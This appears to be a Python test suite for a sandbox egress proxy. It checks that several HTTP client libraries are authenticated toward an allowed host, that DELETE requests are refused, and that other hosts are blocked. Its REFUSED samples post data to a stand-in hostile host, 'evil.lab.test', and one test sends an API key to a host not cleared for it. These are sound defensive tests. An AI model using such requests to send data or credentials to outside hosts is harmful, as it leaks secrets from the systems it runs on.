# SPDX-License-Identifier: Apache-2.0
"""Debian's Python libraries: requests, urllib3, httpx (http/1.1 and h2), aiohttp."""
import json
import textwrap

import outside
from outside import Client
from support import PYTHON

HOST = "https://api.real.lab.test"

# Each prints the JSON of three answers: an authenticated GET, a POST of 100,000 bytes, a refused method.
PROGRAMS = {
    "requests": """
        import requests, sys, json
        s = requests.Session()
        rs = [s.get(URL), s.post(URL, data=b"x" * 100000), s.delete(URL)]
        print(json.dumps([[r.status_code, r.json()] for r in rs]))""",
    "urllib3": """
        import urllib3, os, json
        proxy = os.environ.get("HTTPS_PROXY")
        pool = urllib3.ProxyManager(proxy) if proxy else urllib3.PoolManager()
        rs = [pool.request(m, URL, body=b, redirect=False)
              for m, b in (("GET", None), ("POST", b"x" * 100000), ("DELETE", None))]
        print(json.dumps([[r.status, json.loads(r.data)] for r in rs]))""",
    "httpx": """
        import httpx, json
        with httpx.Client() as c:
            rs = [c.get(URL), c.post(URL, content=b"x" * 100000), c.delete(URL)]
        print(json.dumps([[r.status_code, r.json()] for r in rs]))""",
    "httpx2": """
        import httpx, json
        with httpx.Client(http2=True) as c:
            rs = [c.get(URL), c.post(URL, content=b"x" * 100000), c.delete(URL)]
        assert {r.http_version for r in rs} == {EXPECTED.replace("2.0", "2")}, [r.http_version for r in rs]
        print(json.dumps([[r.status_code, r.json()] for r in rs]))""",
    "aiohttp": """
        import aiohttp, asyncio, json
        async def main():
            async with aiohttp.ClientSession(trust_env=True) as s:
                out = []
                for m, b in (("GET", None), ("POST", b"x" * 100000), ("DELETE", None)):
                    async with s.request(m, URL, data=b) as r:
                        out.append([r.status, json.loads(await r.text())])
                print(json.dumps(out))
        asyncio.run(main())""",
}

ASYNC = """
    import asyncio, httpx
    async def main():
        async with httpx.AsyncClient(http2=True) as c:
            rs = await asyncio.gather(*(c.get(f"https://www.real.lab.test/n{i}") for i in range(30)))
            assert [r.json()["path"] for r in rs] == [f"/n{i}" for i in range(30)]
    asyncio.run(main())"""

# A session: requests before 2.29 forgets CONNECT for a chunked upload on a connection of its own.
STREAM = """
    import requests
    s = requests.Session()
    r = s.get("https://www.real.lab.test/bytes/8000000", stream=True)
    assert sum(len(c) for c in r.iter_content(65536)) == 8000000
    def parts():
        for i in range(100):
            yield b"y" * 7000
    r = s.post("https://www.real.lab.test/up", data=parts())
    assert r.json()["body"] == 700000, r.text"""

REFUSED = {
    "requests": "import requests; requests.post('https://evil.lab.test/x', data='d').raise_for_status()",
    "urllib3": "import urllib3; assert urllib3.PoolManager().request('GET', 'https://evil.lab.test/').status == 200",
    "httpx": "import httpx; httpx.post('https://evil.lab.test/x', content='d').raise_for_status()",
    "httpx2": "import httpx\nwith httpx.Client(http2=True) as c: c.get('https://evil.lab.test/x').raise_for_status()",
    "aiohttp": """
        import aiohttp, asyncio
        async def main():
            async with aiohttp.ClientSession(trust_env=True, raise_for_status=True) as s:
                await s.get("https://evil.lab.test/x")
        asyncio.run(main())""",
}


class Python(Client):
    RULES = (f"{{to: '{HOST}', methods: [GET, POST], credential: api}}", "https://www.real.lab.test")
    CREDENTIALS = {"api": "inject: bearer, env: API_KEY"}

    def program(self, box, code, path=""):
        code = textwrap.dedent(code).replace("URL", repr(f"{HOST}/whoami?{path}")).replace("EXPECTED", repr(outside.TO_CLIENT))
        return box.run(PYTHON, "-c", code)

    def three(self, name):
        def check(box, word):
            done = self.program(box, PROGRAMS[name], word)
            self.assert_ok(done)
            (got, first), (sent, second), (refused, third) = json.loads(done.out)
            self.assertEqual((got, sent, refused), (200, 200, 403))
            self.assertEqual((first["authenticated"], second["body"]), (True, 100000))
            self.assert_denied(box, third)
            self.assert_went(box, authenticated=True, method="GET")
            self.assertEqual(len(self.seen("request")), 2)
            self.assertEqual(self.seen("request", method="DELETE"), [])
        self.each(check)

    def test_requests(self):
        self.three("requests")

    def test_urllib3(self):
        self.three("urllib3")

    def test_httpx(self):
        self.three("httpx")

    def test_httpx_http2(self):
        self.three("httpx2")

    def test_aiohttp(self):
        self.three("aiohttp")

    def test_thirty_at_once(self):
        self.each(lambda box, _: self.assert_ok(self.program(box, ASYNC)))

    def test_streams(self):
        self.each(lambda box, _: self.assert_ok(self.program(box, STREAM)))

    def test_refused_hosts(self):
        def check(box, word):
            for name, code in REFUSED.items():
                done = self.program(box, code)
                self.assert_refused(box, done)
                self.assertIn("403" if name != "urllib3" else "AssertionError", done.err)
        self.each(check)

    def test_the_placeholder_is_refused_where_it_does_not_belong(self):
        """No rule gives that host the credential."""
        code = ("import os, requests; r = requests.get('https://www.real.lab.test/whoami', "
                "headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}); print(r.status_code)")

        def check(box, word):
            self.assertEqual(self.program(box, code).out, "403\n")
        self.each(check)


del Client  # a base class, not a test
